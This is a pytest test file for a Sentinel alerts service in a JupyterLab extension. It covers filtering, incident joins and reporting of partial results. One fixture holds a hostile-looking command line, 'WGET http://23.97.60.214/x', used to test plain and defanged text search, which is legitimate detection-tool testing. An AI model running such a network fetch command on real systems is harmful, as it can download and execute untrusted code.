"""Alerts asked of a workspace: filters after the last update, incidents joined, gaps told."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest

from jupyterlab_sentinel.errors import KqlSemanticError, ServiceError, UsageError
from jupyterlab_sentinel.models.tables import Column, QueryResult, Table
from jupyterlab_sentinel.models.workspace import TableInfo
from jupyterlab_sentinel.services import alerts as service

alerts: Any = service.alerts  # takes any backend that answers
DATA = Path(__file__).parents[2] / "data" / "alerts"
START, END = datetime(2019, 2, 17, tzinfo=UTC), datetime(2019, 2, 19, tzinfo=UTC)


class Workspace:
    """A backend that answers each table with the rows or the error that it was given."""

    def __init__(self, reasons: Any = (), **tables: Any) -> None:
        self._tables = tables
        self._reasons = tuple(reasons)
        self.asked: list[Any] = []

    async def run(self, request: Any) -> Any:
        self.asked.append(request)
        name = request.kql.split()[0]
        rows = self._tables.get(name)
        if rows is None:
            raise KqlSemanticError(f"no table {name}")
        if isinstance(rows, Exception):
            raise rows
        data = pa.Table.from_pylist(rows)
        columns = tuple(Column(column, "string") for column in data.column_names)
        status: Any = "partial" if self._reasons else "complete"
        return QueryResult(
            (Table("PrimaryResult", columns, data),),
            request.kql,
            "test",
            request.start,
            request.end,
            START,
            0.1,
            status=status,
            reasons=self._reasons,
        )

    async def tables(self, pattern: Any = None) -> Any:
        return [TableInfo(name, ()) for name in self._tables if pattern in (None, name)]


def row(number: Any, severity: Any = "Medium", **more: Any) -> Any:
    return {
        "SystemAlertId": f"id-{number}",
        "DisplayName": f"Alert {number}",
        "AlertSeverity": severity,
        "TimeGenerated": datetime(2019, 2, 18, number, tzinfo=UTC),
    } | more


async def test_newest_first_with_the_range_given_to_the_backend() -> None:
    workspace = Workspace(SecurityAlert=[row(1), row(3), row(2)])
    found = await alerts(workspace, START, END)
    assert [alert.name for alert in found] == ["Alert 3", "Alert 2", "Alert 1"]
    assert (found.status, found.reasons) == ("complete", ())
    assert (workspace.asked[0].start, workspace.asked[0].end) == (START, END)


async def test_filters_look_at_the_last_update_only() -> None:
    workspace = Workspace(SecurityAlert=[row(1, "High"), row(2, "Low", SystemAlertId="id-1"), row(3, "High")])
    assert [alert.name for alert in await alerts(workspace, severities=["high"])] == ["Alert 3"]
    assert [alert.name for alert in await alerts(workspace, severities=["Low", "Informational"])] == ["Alert 2"]
    assert [alert.name for alert in await alerts(workspace, contains="alert 1")] == []


async def test_text_is_found_in_any_field_whatever_its_case_and_defanged_or_not() -> None:
    entities = json.dumps([{"Type": "process", "CommandLine": "WGET http://23.97.60.214/x"}])
    workspace = Workspace(SecurityAlert=[row(1, Entities=entities), row(2, Entities="[]")])
    for text in ("wget", "23.97.60.214", "23[.]97.60[.]214"):
        assert [alert.name for alert in await alerts(workspace, contains=text)] == ["Alert 1"]


async def test_unknown_severities_are_refused_before_anything_is_sent() -> None:
    workspace = Workspace(SecurityAlert=[row(1)])
    with pytest.raises(UsageError, match="Hihg"):
        await alerts(workspace, severities=["Hihg"])
    assert workspace.asked == []


async def test_what_makes_the_answer_incomplete_is_handed_on() -> None:
    found = await alerts(Workspace(SecurityAlert=[row(1)], reasons=["cut at 500,000 rows"]))
    assert found.status == "partial"
    assert found.reasons[0] == "cut at 500,000 rows"


async def test_a_workspace_without_alerts_says_so() -> None:
    found = await alerts(Workspace())
    assert (list(found), found.status) == ([], "complete")
    assert found.notes == ("This workspace has no table SecurityAlert.",)


async def test_a_fault_that_is_not_a_missing_table_is_raised() -> None:
    with pytest.raises(KqlSemanticError):
        await alerts(Workspace(SecurityAlert=KqlSemanticError("column")))
    with pytest.raises(ServiceError):
        await alerts(Workspace(SecurityAlert=ServiceError("down")))


async def test_the_last_update_of_an_incident_is_joined() -> None:
    old = {"IncidentNumber": 7, "Title": "Old", "Status": "New", "Owner": "{}", "AlertIds": '["ID-1"]'}
    new = {
        "IncidentNumber": 8,
        "Title": "New",
        "Status": "Active",
        "Owner": '{"assignedTo":"ann"}',
        "AlertIds": '["id-1"]',
    }
    workspace = Workspace(
        SecurityAlert=[row(1), row(2)],
        SecurityIncident=[
            new | {"LastModifiedTime": "2019-02-18T05:00:00Z"},
            old | {"LastModifiedTime": "2019-02-18T04:00:00Z"},
        ],
    )
    second, first = await alerts(workspace, START, END)
    assert second.incident is None
    assert (first.incident.number, first.incident.title, first.incident.status, first.incident.owner) == (
        8,
        "New",
        "Active",
        "ann",
    )
    assert (workspace.asked[1].start, workspace.asked[1].end) == (START, None)
    assert "arg_max" in workspace.asked[1].kql


async def test_a_real_incident() -> None:
    incident = json.loads((DATA / "row_SecurityIncident_stixshifter_DATA3.json").read_text("utf-8"))["row"]
    workspace = Workspace(SecurityAlert=[row(1, SystemAlertId=incident["AlertIds"][0])], SecurityIncident=[incident])
    joined = (await alerts(workspace))[0].incident
    assert joined.number == 15216
    assert joined.title.startswith("Traffic detected")
    assert (joined.status, joined.owner, joined.url is not None) == ("New", "", True)
    assert joined.modified == datetime(2023, 3, 18, 23, 52, 9, 956735, tzinfo=UTC)


async def test_alerts_are_listed_even_if_incidents_cannot_be_read() -> None:
    found = await alerts(Workspace(SecurityAlert=[row(1)], SecurityIncident=ServiceError("down\x1b")))
    assert len(found) == 1
    assert found.status == "partial"
    assert found.reasons == ("Incidents are missing: down<U+001B>",)
    silent = await alerts(Workspace(SecurityAlert=[row(1)]))
    assert silent.status == "complete"


async def test_times_keep_their_order_below_the_microsecond(monkeypatch: pytest.MonkeyPatch) -> None:
    times = pa.array([1_550_000_000_000_000_200, 1_550_000_000_000_000_100], pa.timestamp("ns", "UTC"))
    workspace = Workspace(SecurityAlert=[row(1)])
    table = pa.table({"SystemAlertId": ["a", "a"], "Status": ["Resolved", "New"], "TimeGenerated": times})

    async def run(request: Any) -> Any:
        result = await Workspace.run(workspace, request)
        return QueryResult(
            (Table("PrimaryResult", (), table),),
            *[getattr(result, n) for n in ("query", "workspace", "start", "end", "sent_at", "elapsed_s")],
        )

    monkeypatch.setattr(workspace, "run", run)
    assert [alert.status for alert in await alerts(workspace)] == ["Resolved"]
